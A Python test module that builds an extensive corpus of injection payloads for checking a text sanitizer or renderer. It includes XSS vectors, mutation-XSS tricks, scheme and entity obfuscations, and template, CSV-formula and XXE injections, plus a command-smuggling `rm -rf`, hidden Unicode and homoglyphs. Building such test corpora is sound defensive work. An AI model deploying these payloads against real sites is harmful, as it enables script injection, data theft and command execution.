"""Texts that try to run a script, to fetch something, to hide or to break out of the file that they are put into.

Each is made for a number, which it reports when it runs: `hostile(17)` is a function of the browser's that the tests listen to. They
are families times variants, written for this project."""

import html
import itertools
import urllib.parse

OUTSIDE = "https://outside.example"


def _code(number):
    return f"hostile({number})"


def _scripts(n):
    code = _code(n)
    return [
        f"<script>{code}</script>", f"<SCRIPT>{code}</SCRIPT>", f"<script\n>{code}</script\n>", f"<scr<script>ipt>{code}</scr</script>ipt>",
        f"<script type=module>{code}</script>", f"<script/x>{code}</script>", f"</script><script>{code}</script>", f"<script src={OUTSIDE}/{n}.js></script>",
        f"<script src=//outside.example/{n}.js>", f"<script>{code}", f"<script>{code}//", f"<script><!--\n{code}\n//--></script>",
        f"<div><script>{code}</script></div>", f"- a\n\n  <script>\n  {code}\n  </script>", f"> <script>{code}</script>", f"a <script>{code}</script> b",
        f"<p>\n\n<script>\n\n{code}\n\n</script>\n\n</p>", f"<noscript><script>{code}</script></noscript>", f"<template><script>{code}</script></template>",
        f"<script nonce=x integrity=y>{code}</script>", f"<script type=importmap>{{}}</script><script>{code}</script>", f"<script charset=utf-7>{code}</script>",
    ]


def _handlers(n):
    code = _code(n)
    elements = [
        ("img src=x", "onerror"), ("img src", "onload"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("input autofocus", "onfocus"),
        ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("marquee", "onstart"), ("iframe", "onload"),
        ("object data=x", "onerror"), ("style", "onload"), ("link rel=stylesheet href=x", "onerror"), ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"), ("a autofocus href=x", "onfocus"), ("div contenteditable autofocus", "onfocus"), ("p style=animation:x", "onanimationstart"),
        ("div", "onpointerover"), ("b", "onmouseover"), ("dialog open", "ontoggle"), ("source", "onerror"), ("track", "onerror"), ("embed src=x", "onload"),
    ]
    found = []
    for element, event in elements:
        found += [f"<{element} {event}={code}>", f"<{element} {event}='{code}'", f"</p><{element.upper()}/{event.upper()}=\"{code}\">"]
    return found


def _schemes(n):
    code = _code(n)
    script = f"javascript:{code}"
    page = html.escape(f"<script>{code}</script>")
    return [
        script, script.upper().replace("HOSTILE", "hostile"), f"JaVaScRiPt:{code}", f"javascript&colon;{code}", f"javascript&#58;{code}", f"javascript&#x3a;{code}",
        f"&#106;avascript:{code}", f"&#x6A;&#x61;vascript:{code}", f"&#0000106avascript:{code}", f"java&Tab;script:{code}", f"java&NewLine;script:{code}",
        f"java\tscript:{code}", f"java\nscript:{code}", f"%6aavascript:{code}", f"javascript%3a{code}", f"\\javascript:{code}", f"javascript\\:{code}",
        f"javascript://%0a{code}", f"javascript://outside.example/%0d%0a{code}", f"javascript:/*--></title></style></textarea></script>*/{code}", f" javascript:{code}",
        f"&nbsp;javascript:{code}", f"jav&#x09;ascript:{code}", f"jav&#x0A;ascript:{code}", f"vbscript:{code}", f"VbScRiPt:{code}", f"livescript:{code}", f"data:text/html,{page}",
        f"data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+", f"DATA:text/html,{urllib.parse.quote(page)}", f"data:image/svg+xml,{page}", f"data:,{code}", f"data&colon;text/html,{page}",
        f"blob:{OUTSIDE}/{n}", "file:///etc/passwd", "filesystem:https://outside.example/x", "view-source:https://outside.example", "about:blank#x", "ftp://outside.example/x",
        f"intent://x#Intent;S.x={code};end", "ms-word:ofe|u|https://outside.example", "tel:+999", "sms:1", f"feed:javascript:{code}", f"jar:{OUTSIDE}!/x",
        f"//outside.example/{n}", f"\\\\outside.example\\{n}", f"/\\outside.example/{n}", "https:outside.example", "https:/outside.example", "https:\\\\outside.example",
        "http://review.example.org@outside.example/", "https://un.org%40outside.example@outside.example", f"https://outside.example/\"onclick=\"{code}", f"https://outside.example/'onclick='{code}",
        f"https://outside.example/<script>{code}</script>", f"https://outside.example/&quot;onclick=&quot;{code}", f"mailto:a@outside.example?subject=<script>{code}</script>", "wss://outside.example", "chrome://settings", "xn--:x",
    ]


def _links(n):
    forms = [
        lambda to: f"[x]({to})", lambda to: f"[x](<{to}>)", lambda to: f"![x]({to})", lambda to: f"<{to}>", lambda to: to,
        lambda to: f"[x][r]\n\n[r]: {to}", lambda to: f"<a href=\"{to}\">x</a>", lambda to: f"[![x]({to})]({to} \"{to}\")",
    ]
    # Every destination in two forms of link, so that every form meets many destinations.
    return [forms[(place + turn * 3) % len(forms)](to) for place, to in enumerate(_schemes(n)) for turn in range(2)]


def _elements(n):
    code = _code(n)
    opened = [
        "iframe src=javascript:{c}", "iframe srcdoc=\"<script>parent.{c}</script>\"", "object data=\"javascript:{c}\"", "embed src=\"javascript:{c}\"", "base href=//outside.example/",
        "meta http-equiv=refresh content=\"0;url=//outside.example\"", "meta http-equiv=refresh content=\"0;url=javascript:{c}\"", "link rel=stylesheet href=//outside.example/x.css",
        "link rel=preload as=script href=//outside.example/x.js", "link rel=prefetch href=//outside.example", "link rel=dns-prefetch href=//outside.example", "link rel=manifest href=//outside.example",
        "img src=//outside.example/x.png", "img srcset=\"//outside.example/x.png 1x\"", "image href=//outside.example/x.png", "picture><source srcset=//outside.example/x.png><img",
        "video poster=//outside.example/x.png", "audio src=//outside.example/x.mp3 autoplay", "input type=image src=//outside.example/x.png", "body background=//outside.example/x.png",
        "table background=//outside.example/x.png", "form action=javascript:{c}><button>x</button", "button formaction=javascript:{c}", "isindex action=javascript:{c} type=submit", "div style=\"background:url(//outside.example/x.png)\"",
        "style>@import '//outside.example/x.css';</style", "style>*{{background:url(//outside.example/x.png)}}</style", "plaintext", "xmp", "textarea", "title", "noembed", "noframes", "frameset onload={c}", "frame src=javascript:{c}",
        "applet code=x", "bgsound src=//outside.example/x.mp3", "keygen autofocus onfocus={c}", "portal src=//outside.example", "fencedframe", "custom-element onclick={c}", "div id=main", "form id=document name=location",
        "img name=body src=//outside.example/x.png", "a id=window name=self", "input name=attributes", "slot", "template shadowrootmode=open><script>{c}</script></template", "track src=//outside.example/x.vtt", "a ping=//outside.example href=https://example.org",
    ]
    return [f"<{element.format(c=code)}>" for element in opened]


def _declarations(n):
    code = _code(n)
    mark = f"<img src=x onerror={code}>"
    return [
        f"<!-- {mark} -->", f"<!--{mark}", f"<!-->{mark}-->", f"<!--->{mark}-->", f"<!-- --!>{mark}-->", f"<!-- -- >{mark}", f"<![CDATA[{mark}]]>", f"<![CDATA[{mark}", f"<![CDATA[]]>{mark}", f"]]>{mark}<![CDATA[",
        f"<?php {mark} ?>", f"<?xml version=\"1.0\"?>{mark}", f"<?xml-stylesheet href=\"//outside.example/x.xsl\"?>", f"<?{mark}", f"<!DOCTYPE html>{mark}", f"<!DOCTYPE x [<!ENTITY y \"{mark}\">]>&y;", f"<!ENTITY x SYSTEM \"file:///etc/passwd\">&x;",
        f"<!ELEMENT {mark}", f"<!{mark}", f"<{mark}", f"<<{mark}", f"<a<b{mark}", f"</{mark}", f"<//{mark}", f"<%{mark}%>", f"<!--[if IE]>{mark}<![endif]-->",
    ]


def _foreign(n):
    code = _code(n)
    return [
        f"<svg><script>{code}</script></svg>", f"<svg><script href=//outside.example/x.js /></svg>", f"<svg><a xlink:href=javascript:{code}><text y=20>x</text></a></svg>", f"<svg><animate onbegin={code} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{code}>", f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={code}>#x\">", f"<svg><foreignObject><iframe src=javascript:{code}></foreignObject></svg>", f"<svg><image href=//outside.example/x.png></svg>",
        f"<svg><feImage href=//outside.example/x.png></svg>", f"<svg><style>@import '//outside.example'</style></svg>", f"<svg><desc><script>{code}</script></desc></svg>", f"<svg><title><img src=x onerror={code}></title></svg>",
        f"<math><mtext><script>{code}</script></mtext></math>", f"<math href=javascript:{code}>x</math>", f"<math><maction actiontype=statusline xlink:href=javascript:{code}>x", f"<math><annotation-xml encoding=text/html><img src=x onerror={code}></annotation-xml></math>",
        f"<math><mi><table><mglyph><style><img src=x onerror={code}>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={code}&gt;\">", f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={code}>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={code}>\">", f"<svg><p><style><g title=\"</style><img src=x onerror={code}>\">", f"<noscript><p title=\"</noscript><img src=x onerror={code}>\">", f"<select><template><style><img src=x onerror={code}></style></template></select>",
        f"<listing>&lt;img src=x onerror={code}&gt;</listing>", f"<textarea><p title=\"</textarea><img src=x onerror={code}>\">", f"<title><p title=\"</title><img src=x onerror={code}>\">", f"<table><caption><img src=x onerror={code}></table>", f"<a><table><a><img src=x onerror={code}>",
        f"<frameset><frame src=javascript:{code}>", f"<xmp><p title=\"</xmp><img src=x onerror={code}>\">", f"<p id=\"</p><img src=x onerror={code}>\">", f"`<img src=x onerror={code}>", f"``<img src=`x`onerror={code}>``",
    ]


def _templates(n):
    code = _code(n)
    return [
        "{{7*7}}", "{{{x}}}", "{{ strings.site.name }}", "{{> page}}", "{{#each texts}}x{{/each}}", "{{/if}}", "{{else}}", "{{!-- x --}}", "{{raw text}}", "{% include x %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
        "{{constructor.constructor('" + code + "')()}}", "{{$on.constructor('" + code + "')()}}", "[[${7*7}]]", "@{x}", "*{x}", "__proto__", "constructor", "%(x)s", "%n%n%s", "{0}", "\\(name)", "$(id)", "`id`", "{{strings.", "}}", "{{", "{{{{", "{{ ../text }}", "{{@index}}",
    ]


def _formats(n):
    code = _code(n)
    mark = f"<img src=x onerror={code}>"
    return [
        f"=cmd|' /C calc'!A{n}", f"+{n}+1", f"-{n}-1", f"@SUM(1+{n})", f"=HYPERLINK(\"{OUTSIDE}/{n}\";\"x\")", f"\t={n}", f"|={n}", f"%3D{n}", f"'={n}", f"\"={n}", f";={n}", f",={n}", f"＝{n}", f"＋{n}", f"－{n}", f"＠{n}", f"a\",\"={n}\"\n=1", f"\"\"\"",
        f"</script><script>{code}</script>", f"<!--<script>{code}", f"\\u003c/script\\u003e{mark}", f"\"}}</script>{mark}", f"{{\"@id\": \"javascript:{code}\"}}", f"\"], \"x\": [\"", f"\\\"", f"\\\\\"", f"\\u0022", "\\ud800", f"');{code};//", f"`${{{code}}}`", f"</SCRIPT\n>{mark}",
        "} title = {x", "{", "}", "}}}", "{{{", "\\", "\\\\}", "@article{x, title={y}}", "\"} , url = {javascript:x}", "\\input{/etc/passwd}", "\\write18{id}", "$\\alpha$", "% comment", "~#&_^", "\\verb|x|", "\\end{document}",
        "]]>", "<![CDATA[", "</content></entry><entry>", f"</title><link href=\"{OUTSIDE}\"/>", f"</summary>{mark}", "&lt;/title&gt;", "&xxe;", "%xxe;", "&#x3c;script&#x3e;" + code + "&#x3c;/script&#x3e;", f"&amp;lt;script&amp;gt;{code}", f"&lt;img src=x onerror={code}&gt;",
        "\\x3cscript\\x3e" + code + "\\x3c/script\\x3e", f"+ADw-script+AD4-{code}+ADw-/script+AD4-", f"%3Cscript%3E{code}%3C/script%3E", f"%253Cscript%253E{code}", f"\\74script\\76{code}", f"＜script＞{code}＜/script＞", f"‹script›{code}", f"﹤script﹥{code}", f"¼script¾{code}",
        "../../../../etc/passwd", "..\\..\\x", "CON", "nul.txt", "a/b", "a\\b", "index.html", ".htaccess", "-rf *", "; rm -rf x", "$HOME", "robots.txt", "null", "undefined", "NaN", "true", "0", "1e309", "toString", "__proto__.x", "ſcript", "ﬀ", "İ", "ß", "ŉ",
    ]


def _breakouts(n):
    code = _code(n)
    events = [f"\" onclick=\"{code}", f"' onclick='{code}", f"\" autofocus onfocus=\"{code}", f"\"><img src=x onerror={code}>", f"'><img src=x onerror={code}>", f"\"><svg onload={code}>", f"` onclick=`{code}", f"&quot; onclick=&quot;{code}", f"&#34;><img src=x onerror={code}>"]
    found = []
    for event in events:
        found += [
            f"[x](https://example.org \"{event}\")", f"[x](https://example.org '{event}')", f"[{event}](https://example.org)", f"[x](https://example.org/{event})", f"<https://example.org/{event}>", f"https://example.org/{event}", f"www.example.org/{event}",
            f"a@example.org{event}", f"# {event}", f"```{event}\nx\n```", f"``` {event}\nx\n```", f"a[^{event}]\n\n[^{event}]: {event}", f"![{event}](https://example.org/{event})", f"- [ ] {event}\n- [x] {event}", f"|{event}|\n|---|\n|{event}|",
            f"~~{event}~~", f"1. {event}", f"`{event}`", f"**{event}**", f"[x][{event}]\n\n[{event}]: https://example.org/{n}",
        ]
    return found


def _marks(n):
    return [
        "⟦⟧", "⟦x⟧", "⟦", "⟧", "⟧x⟦", "⟦⟦x⟧⟧", "⟦x", "x⟧", "⟦x⟧ y ⟦z", "a ⟦b\n\nc⟧ d", "**a ⟦b** c⟧", "`⟦x⟧`", "[⟦x⟧](https://example.org/⟦x⟧)", f"⟦<script>{_code(n)}</script>⟧", "| ⟦a | b⟧ |\n|---|---|\n| c | d |", "⟦\n```\nx⟧\n```", "&#10214;x&#10215;", "&#x27E6;x&#x27E7;", "\\⟦x\\⟧", "〚x〛", "⟬x⟭", "[[x]]",
    ]


# What nobody sees: a text that holds it is held back.
_HIDDEN = [
    "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2028", "\u2029", "\u2060", "\u2061", "\u2062", "\u2063", "\u2064", "\u2065", "\u206a", "\u206f",
    "\ufeff", "\u00ad", "\u034f", "\u115f", "\u1160", "\u17b4", "\u180b", "\u180e", "\u3164", "\ufe00", "\ufe0f", "\uffa0", "\ufff9", "\ufffb", "\ufdd0", "\uffff", "\U0001bca0", "\U0001d173", "\U000e0001", "\U000e0041", "\U000e0100", "\U0010ffff",
    "\u2800", "\ufffc", "\ufffd", "\ue000", "\uf8ff", "\U000f0000", "\U0010fffd", "\u0378", "\u05ff",
]


def _hidden(n):
    isolates = ["\u2066x", "x\u2069", "\u2067x\ny\u2069", "\u2068\u2066x\u2069", "\u2069x\u2066", "\u2067" * 40 + "x"]
    return [f"a{sign}b" for sign in _HIDDEN] + [f"<scr{sign}ipt>{_code(n)}</script>" for sign in _HIDDEN[:4]] + [f"java{sign}script:{_code(n)}" for sign in _HIDDEN[:4]] + isolates + [
        "&#8203;x", "&#x202e;x", "&zwj;x", "&shy;x", "&rlm;x", "&#0;x", "&#xFEFF;x", "&ZeroWidthSpace;", "&InvisibleTimes;x", "\u2067أ\u2069 b",
    ]


# Words that mix letters of two alphabets, or unusual forms with usual ones, to look like others: shown, and reported.
LOOKALIKES = ["pаypal", "Ѕtаtе", "сlеаrаnсе", "Αrticle", "gοvernment", "ministrу", "аdmin", "СССP", "Росcия", "Ηellas", "рublic", "unodс", "Ոne", "ոot", "Ꭺdmin", "ꓮdmin", "ǀtem", "ɡoogle", "ꜱtate", "𝐀dmin", "ᴀlpha", "corrupciόn"]
# No mixture: every word is of one alphabet, or of letters that no eye mistakes.
PLAIN = ["Государство A", "State Альфа", "ΑΒΓ and ABC", "α-helix", "中国 GDP", "الدولة A", "naïve œuvre", "10 µm", "№ 5", "根据UNTOC第18条", "الـUN", "Tbilisi (თბილისი)"]


def _lookalikes(n):
    return [f"{word} {n}" for word in LOOKALIKES + PLAIN] + [f"Zal{'̴̢͓̺'*7}go {n}", "a" + "\u0301" * 30, "\u0301x", "𝐬𝐜𝐫𝐢𝐩𝐭 𝔧𝔰", "ｓｃｒｉｐｔ", "🏳️‍🌈", "👩‍⚖️ x", "ﷺ" * 20, "௵" * 20, "\u00a0\u2003\u3000x"]


def _structures(n):
    return [
        ">" * 40 + " x", "- " * 40 + "x", "1. > " * 20 + "x", "[" * 200 + "x" + "]" * 200, "(" * 200 + ")" * 200, "*" * 400 + "x", "_" * 401 + "x" + "_" * 401, "`" * 301 + "x" + "`" * 300, "~~" * 200, "#" * 7 + " x", "# " * 50, "[x]: a\n" * 30 + "[x]",
        "[^a][^b]\n\n[^a]: [^b]\n\n[^b]: [^a]", "[^a]\n\n[^a]: [^a]", "[^1]: unused", "[^", "[^]: x", "|" + "|".join("ab" * 30) + "|\n" + "|-" * 60 + "|\n" + "|x" * 60 + "|", "|a|\n|-|\n" + "|b|\n" * 300, "| a\n|-\n|", "a\n|-|\n" * 30, "x" * 5_000, "x " * 3_000, "中" * 3_000, "ا" * 2_000,
        "a" + "\n" * 500 + "b", "\n".join(" " * i + "- x" for i in range(0, 60, 2)), "---\n" * 50, "***x***" * 100, "\\" * 501, "&" * 500, "&amp;" * 300, "<" * 500, ">" * 500 + "x", "\"" * 500, "'" * 500, "![" * 200, "[a](" * 200, "<a " * 200, "```\n" * 51, "~~~ x\n```\n~~~", "    code\n\n    more", "\tx", "- \n- \n-", "x\n=", "x\n-", "- [ ] \n- [x]", "www." * 100, "http://" * 100, "a@b." * 100, "mailto:" * 50, "# x\n# x\n# x", f"# main\n\n# navigation {n}",
    ]


def families(n=0):
    """All families by name, each a list of texts, made for one number."""
    return {
        "scripts": _scripts(n), "event handlers": _handlers(n), "links": _links(n), "elements": _elements(n), "comments and declarations": _declarations(n), "foreign content and mutation": _foreign(n), "templates": _templates(n),
        "other formats": _formats(n), "attributes": _breakouts(n), "marks of withheld passages": _marks(n), "what nobody sees": _hidden(n), "look-alikes": _lookalikes(n), "structures": _structures(n),
    }


def corpus():
    """Every payload with its number from 0 and its family; those that occur twice, once."""
    shapes = [(family, place) for family, texts in families().items() for place in range(len(texts))]
    made = [(number, family, families(number)[family][place]) for number, (family, place) in enumerate(shapes)]
    seen = set()
    return [(number, family, text) for number, family, text in made if not (text in seen or seen.add(text))]


# What the reader of records takes for a broken file: it stops everything.
REFUSED = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\r", "\x1b[2J", "\x7f", "\x85", "\x9b", "\ud800", "a" + "\u0301" * 31, "a" + "\u0301\u0323" * 5_000]
